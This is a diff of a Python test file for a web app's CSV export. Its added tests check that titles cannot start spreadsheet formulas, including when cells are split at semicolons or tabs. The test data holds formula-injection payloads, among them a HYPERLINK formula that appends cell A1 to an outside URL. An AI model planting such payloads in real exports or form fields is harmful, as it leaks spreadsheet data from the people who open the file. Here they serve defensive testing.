@@ -19,7 +19,7 @@ DANGEROUS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", '"=1', "\n=1", " =1", "' =1
 
 
 def read(response: Any) -> list[list[str]]:
-    text = b"".join(response.streaming_content).decode()
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
     return list(csv.reader(io.StringIO(text, newline=""), strict=True))
 
 
@@ -31,6 +31,31 @@ def test_no_cell_begins_as_a_formula_and_a_record_is_one_row(title: str) -> None
     assert all(cell[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"} for cell in row)
     assert all(cell.lstrip(" \t\r\n\"'")[:1] not in {"=", "+", "-", "@"} or cell[:1] == "'" for cell in row)
     assert row[0] == request.reference
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        'Atlas ;=HYPERLINK("http://example.org/"&A1) x',
+        "Atlas\n=1+1",
+        'Atlas;" =1+1',
+        "Atlas\t@SUM(A1)",
+        "\uff1d1+1",
+    ],
+)
+def test_no_cell_begins_as_a_formula_where_cells_are_parted_at_semicolons(title: str) -> None:
+    request = make_submitted()
+    CommunityRequest.objects.filter(pk=request.pk).update(title=title)
+    response = sign_in(make_curator()).get(f"{QUEUE}export/")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
+    for delimiter in ";\t":
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+        assert not [cell for cell in cells if cell.lstrip(" \"'")[:1] in set("=+@\uff1d") and cell[:1] != "'"]
+
+
+def test_it_tells_spreadsheets_which_alphabet_it_is_in() -> None:
+    response = sign_in(make_curator()).get(f"{QUEUE}export/")
+    assert b"".join(response.streaming_content).startswith(b'\xef\xbb\xbf"')  # type: ignore[attr-defined]
 
 
 @pytest.mark.parametrize("title", ['Rivers; "data", and more', "مشروع 🧊", "a = b", "2+2", "Two\nlines"])
